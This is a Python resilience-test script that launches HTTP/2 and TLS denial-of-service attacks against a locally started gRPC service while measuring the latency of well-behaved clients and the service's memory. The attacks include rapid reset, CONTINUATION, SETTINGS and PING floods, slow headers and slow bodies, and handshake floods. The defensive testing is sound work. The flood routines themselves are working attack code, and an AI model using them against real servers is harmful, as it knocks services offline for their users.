"""What an attacker on the wire can do: the service keeps answering a client that behaves, and its memory stays bounded.

Usage: attacks.py ONRECORD PORT WORK [SECONDS]. Each attack lasts that long (5 by default), while a client that behaves calls every 20 ms in
a process of its own; its p50 and p99 are reported, and those of a client that connects anew for each call, and the service's memory afterwards.
Both call the service that is attacked: over TLS, where that is what is attacked. An attack fails the run if one of their calls fails, or if
the memory is above what its connections may take. Those of unread.py follow, against a service of their own.
"""

import asyncio
import multiprocessing
import os
import resource
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.settings
import unread
from grpc_health.v1 import health_pb2 as health
from grpc_health.v1 import health_pb2_grpc as health_grpc

ONRECORD, PORT, WORK = sys.argv[1], int(sys.argv[2]), sys.argv[3]
SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
HOST = "127.0.0.1"
CALLER = [("onrecord-caller", "attacker")]
PATH = "/onrecord.v1.StatementService/ListStatements"
SUBSCRIBE = "/onrecord.v1.FeedService/Subscribe"
HEALTH = "/grpc.health.v1.Health/Check"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A connection that is let go costs what docs/operations.md says of a quiet stream, and some for what is under way.
KIB_PER_CONNECTION = 64
KIB_BESIDE = 64 * 1024
# Frames are sent in bursts of so many, so that the attack is the service's work and not ours.
BURST = 500
# Both sides need a file for each; some are beside them.
IDLE_WANTED = 20_000
IDLE = min(IDLE_WANTED, resource.getrlimit(resource.RLIMIT_NOFILE)[1] - 500)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


SETTINGS = frame(4, 0, 0)


def headers(path):
    pseudo = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return [*pseudo, ("content-type", "application/grpc"), ("te", "trailers"), *CALLER]


class Attacker:
    """A connection that speaks HTTP/2 by itself, or by the h2 library."""

    @classmethod
    async def raw(cls):
        self = cls()
        self.reader, self.writer = await asyncio.open_connection(HOST, PORT)
        self.writer.write(PREFACE + SETTINGS)
        return self

    @classmethod
    async def polite(cls, settings=None):
        self = cls()
        self.reader, self.writer = await asyncio.open_connection(HOST, PORT)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        if settings:
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.h2.initiate_connection()
        self.flush()
        return self

    def flush(self):
        self.writer.write(self.h2.data_to_send())

    def open(self, path=PATH, end=False):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, headers(path), end_stream=end)
        return stream

    async def drain(self):
        """Sends what waits; raises once the service has closed the connection."""
        await self.writer.drain()
        if self.reader.at_eof() or self.writer.is_closing():
            raise ConnectionResetError

    def close(self):
        self.writer.close()


async def swallow(reader):
    """Reads and forgets what comes, so that the service never waits for us."""
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


async def repeat(begin, step, connections=20):
    """Keeps so many connections busy with an attack, each anew when it is cut off. Returns how often that was."""
    until, cut = time.monotonic() + SECONDS, 0

    async def one():
        nonlocal cut
        while time.monotonic() < until:
            attacker = None
            try:
                attacker = await begin()
                reading = asyncio.create_task(swallow(attacker.reader))
                while time.monotonic() < until:
                    step(attacker)
                    await attacker.drain()
                    await asyncio.sleep(0)
                reading.cancel()
            except (OSError, h2.exceptions.ProtocolError):
                cut += 1
                await asyncio.sleep(0.01)
            finally:
                if attacker:
                    attacker.close()

    await asyncio.gather(*(one() for _ in range(connections)))
    return f"{connections} connections, cut off {cut} times"


async def rapid_reset():
    def step(attacker):
        for _ in range(BURST):
            stream = attacker.open()
            attacker.h2.reset_stream(stream)
        attacker.flush()

    return await repeat(Attacker.polite, step)


async def continuation_flood():
    def step(attacker):
        if not getattr(attacker, "begun", False):
            attacker.begun = True
            # HEADERS without END_HEADERS: a literal that is never indexed, "a: b".
            attacker.writer.write(frame(1, 0, 1, b"\x10\x01a\x01b"))
        attacker.writer.write(b"".join(frame(9, 0, 1, b"\x10\x01a\x01b" * 100) for _ in range(BURST)))

    return await repeat(Attacker.raw, step)


async def settings_flood():
    return await repeat(Attacker.raw, lambda attacker: attacker.writer.write(SETTINGS * BURST))


async def ping_flood():
    ping = frame(6, 0, 0, b"12345678")
    return await repeat(Attacker.raw, lambda attacker: attacker.writer.write(ping * BURST))


async def late_resets():
    """Resets of a stream that has ended: h2 has forgotten it, and counts none."""

    def step(attacker):
        if not getattr(attacker, "stream", None):
            attacker.stream = attacker.open(HEALTH)
            attacker.h2.send_data(attacker.stream, b"\0\0\0\0\0", end_stream=True)
            attacker.flush()
        attacker.writer.write(frame(3, 0, attacker.stream, struct.pack(">I", 8)) * BURST)

    return await repeat(Attacker.polite, step)


async def crumbs():
    """A message in frames of one byte each."""

    def step(attacker):
        if not getattr(attacker, "stream", None):
            attacker.stream = attacker.open()
            attacker.h2.send_data(attacker.stream, b"\0\0\x03\0\0")
            attacker.flush()
        attacker.writer.write(frame(0, 0, attacker.stream, b"x") * BURST)

    return await repeat(Attacker.polite, step)


async def refusals():
    """Calls of nobody, of a method that is none and has a long name, of which HPACK sends an index after the first."""

    def step(attacker):
        for _ in range(100):
            attacker.h2.send_headers(attacker.h2.get_next_available_stream_id(), headers("/x" * 2000)[:-1], end_stream=True)
        attacker.flush()

    return await repeat(Attacker.polite, step)


async def long_questions():
    """Calls after health that nobody has to be known for: all but the last byte of 4 MiB, on as many streams as there may be."""

    async def one():
        attacker = await Attacker.polite()
        for _ in range(100):
            stream = attacker.open(HEALTH)
            attacker.h2.send_data(stream, b"\0\0\x40\0\0" + b"x" * 600)
        attacker.flush()
        return attacker

    return await hold(one, 100)


async def empty_frames():
    def step(attacker):
        if not getattr(attacker, "stream", None):
            attacker.stream = attacker.open()
            attacker.flush()
        attacker.writer.write(frame(0, 0, attacker.stream) * BURST)

    return await repeat(Attacker.polite, step)


async def hold(open_one, count):
    """Opens so many connections, keeps them while the attack lasts, and says how many are still there."""
    limit = asyncio.Semaphore(200)
    held = []

    async def one():
        async with limit:
            try:
                held.append(await open_one())
            except OSError:
                pass

    began = time.monotonic()
    await asyncio.gather(*(one() for _ in range(count)))
    await asyncio.sleep(max(SECONDS, 1))
    memory = resident()
    alive = 0
    for attacker in held:
        reader = attacker.reader if hasattr(attacker, "reader") else attacker[0]
        alive += not reader.at_eof()
        (attacker.writer if hasattr(attacker, "writer") else attacker[1]).close()
    return f"{count} connections, {alive} held after {time.monotonic() - began:.0f} s, {memory // 1024} MiB meanwhile"


async def slow_headers():
    async def one():
        reader, writer = await asyncio.open_connection(HOST, PORT)
        writer.write(PREFACE[:5])
        return reader, writer

    return await hold(one, 1000)


async def slow_body():
    async def one():
        attacker = await Attacker.polite()
        stream = attacker.open()
        attacker.h2.send_data(stream, b"\x00\x00\x00\x10\x00")
        attacker.flush()
        return attacker

    return await hold(one, 1000)


async def closed_windows():
    async def one():
        attacker = await Attacker.polite({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for _ in range(20):
            stream = attacker.open(SUBSCRIBE)
            # start: 3, the beginning
            attacker.h2.send_data(stream, b"\x00\x00\x00\x00\x02\x08\x03", end_stream=True)
        attacker.flush()
        return attacker

    return await hold(one, 200)


async def window_updates():
    update = frame(8, 0, 0, struct.pack(">I", 1))
    return await repeat(Attacker.raw, lambda attacker: attacker.writer.write(update * BURST))


async def idle_connections():
    outcome = await hold(Attacker.raw, IDLE)
    return outcome if IDLE == IDLE_WANTED else f"{outcome}; {IDLE_WANTED} WERE WANTED, and the limit of open files allows no more"


async def half_handshakes():
    async def one():
        reader, writer = await asyncio.open_connection(HOST, PORT + 1)
        # The beginning of a ClientHello, of which the rest never comes.
        writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return reader, writer

    return await hold(one, 2000)


async def handshakes():
    """Whole handshakes, one after the other: each has the service sign. Processes of their own, as one cannot do as many."""
    count = multiprocessing.Value("i", 0)
    until = time.monotonic() + SECONDS
    attackers = [multiprocessing.Process(target=shake, args=(until, count), daemon=True) for _ in range(2)]
    for attacker in attackers:
        attacker.start()
    await asyncio.sleep(SECONDS)
    for attacker in attackers:
        attacker.join()
    return f"20 connections at a time, {count.value} handshakes"


def shake(until, count):
    hello = ssl.create_default_context(cafile=f"{WORK}/tls.crt")
    hello.set_alpn_protocols(["h2"])

    async def one():
        while time.monotonic() < until:
            try:
                _, writer = await asyncio.open_connection(HOST, PORT + 1, ssl=hello, server_hostname="localhost")
                with count:
                    count.value += 1
                writer.transport.abort()
            except OSError:
                await asyncio.sleep(0.01)

    async def all_of_them():
        await asyncio.gather(*(one() for _ in range(10)))

    asyncio.run(all_of_them())


async def nothing():
    await asyncio.sleep(SECONDS)
    return "nothing"


async def nothing_over_tls():
    return await nothing()


# One that speaks plainly, and one by TLS.
services = []

ATTACKS = [
    ("rapid reset", rapid_reset, 20),
    ("CONTINUATION flood", continuation_flood, 20),
    ("SETTINGS flood", settings_flood, 20),
    ("PING flood", ping_flood, 20),
    ("empty DATA frames", empty_frames, 20),
    ("DATA in crumbs", crumbs, 20),
    ("resets of what has ended", late_resets, 20),
    ("calls of nobody", refusals, 20),
    ("long questions after health", long_questions, 100),
    ("WINDOW_UPDATE flood", window_updates, 20),
    ("slow headers", slow_headers, 1000),
    ("slow body", slow_body, 1000),
    ("closed windows", closed_windows, 4000),
    ("half-open TLS handshakes", half_handshakes, 2000),
    ("TLS handshakes without end", handshakes, 20),
    ("idle connections", idle_connections, IDLE),
]
# Those that need a ClientHello; "none" is shown for it too.
OVER_TLS = {half_handshakes, handshakes, nothing_over_tls}


def behave(stop, results, port, anew, is_plain):
    """A client that behaves: a call every 20 ms, over a connection of its own each time if it is `anew`. Tells how long each took, and what failed."""
    credentials = None if is_plain else grpc.ssl_channel_credentials(open(f"{WORK}/tls.crt", "rb").read())
    # Channels to the same place share a connection otherwise.
    options = [("grpc.use_local_subchannel_pool", 1)]

    def connect():
        if is_plain:
            return grpc.insecure_channel(f"localhost:{port}", options)
        return grpc.secure_channel(f"localhost:{port}", credentials, options)

    channel = connect()
    took, failed = [], []
    while not stop.is_set():
        began = time.monotonic()
        try:
            if anew:
                channel.close()
                channel = connect()
            health_grpc.HealthStub(channel).Check(health.HealthCheckRequest(), timeout=10)
        except grpc.RpcError as error:
            failed.append(f"{error.code()} {error.details()}")
        took.append(time.monotonic() - began)
        time.sleep(max(0, 0.02 - (time.monotonic() - began)))
    results.put((sorted(took), failed))


def resident():
    """KiB of both services, without the pages of their binary: those are read as code is first run, whoever has it run."""
    pages = 0
    for process in services:
        with open(f"/proc/{process.pid}/statm") as statm:
            _, resident_pages, file_pages, *_ = map(int, statm.read().split())
            pages += resident_pages - file_pages
    return pages * resource.getpagesize() // 1024


def measured(attack, port):
    """Runs something while the clients that behave call."""
    stop, clients = multiprocessing.Event(), []
    for anew in (False, True):
        results = multiprocessing.Queue()
        client = multiprocessing.Process(target=behave, args=(stop, results, port, anew, port != PORT + 1), daemon=True)
        client.start()
        clients.append((client, results))
    try:
        outcome = attack()
    finally:
        stop.set()
    figures, failed = [], []
    for client, results in clients:
        took, fell = results.get(timeout=30)
        client.join()
        failed += fell
        figures += [took[len(took) // 2] * 1000, took[len(took) * 99 // 100] * 1000]
    return outcome, figures, failed


def serve(port, *more):
    command = [ONRECORD, "serve", "--data-dir", f"{WORK}/record-{port}", "--listen", f"{HOST}:{port}", *more]
    process = subprocess.Popen(command, stderr=open(f"{WORK}/log-{port}", "w"))
    for _ in range(200):
        try:
            socket.create_connection((HOST, port), timeout=1).close()
            return process
        except OSError:
            time.sleep(0.05)
    sys.exit(f"the service does not come up: see {WORK}/log-{port}")


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    services.append(serve(PORT, "--insecure"))
    files = ["--policy", f"{WORK}/policy.toml", "--tls-certificate", f"{WORK}/tls.crt", "--tls-key", f"{WORK}/tls.key"]
    services.append(serve(PORT + 1, *files))
    wrong = []
    try:
        print("| attack | what came of it | calls of others, p50 ms | p99 ms | of those who connect anew, p50 ms | p99 ms | failed | MiB afterwards |")
        print("|---|---|---:|---:|---:|---:|---:|---:|")
        begun, most = resident(), 0
        for name, attack, connections in [("none", nothing, 0), ("none, over TLS", nothing_over_tls, 0), *ATTACKS]:
            port = PORT + 1 if attack in OVER_TLS else PORT
            outcome, figures, failed = measured(lambda attack=attack: asyncio.run(attack()), port)
            memory = resident()
            told = " | ".join(f"{figure:.1f}" for figure in figures)
            print(f"| {name} | {outcome} | {told} | {len(failed)} | {memory // 1024} |", flush=True)
            if failed:
                wrong.append(f"{name}: {len(failed)} calls of a client that behaves failed: {failed[:3]}")
            # What was let go may still be in the allocator's hands.
            most = max(most, connections)
            bound = begun + KIB_BESIDE + most * KIB_PER_CONNECTION
            if memory > bound:
                wrong.append(f"{name}: {memory} KiB, more than {bound}")
            if any(process.poll() is not None for process in services):
                wrong.append(f"{name}: the service has ended")
                break
        hello = ssl.create_default_context(cafile=f"{WORK}/tls.crt")
        hello.set_alpn_protocols(["h2"])
        with socket.create_connection((HOST, PORT + 1), timeout=10) as plain:
            hello.wrap_socket(plain, server_hostname="localhost").close()
        print("\nA handshake after all of this: done.")
    finally:
        for process in services:
            process.send_signal(signal.SIGKILL)
    target = unread.Target(ONRECORD, PORT + 2, WORK)
    aside = unread.Target(ONRECORD, PORT + 3, f"{WORK}/aside") if SECONDS >= 5 else None
    both = [target, aside] if aside else [target]
    try:
        for service in both:
            service.start()
        unread.judge(target, aside, SECONDS, lambda attack: measured(attack, PORT + 2), wrong)
    finally:
        for service in both:
            service.stop()
    if wrong:
        sys.exit("\n".join(wrong))


main()
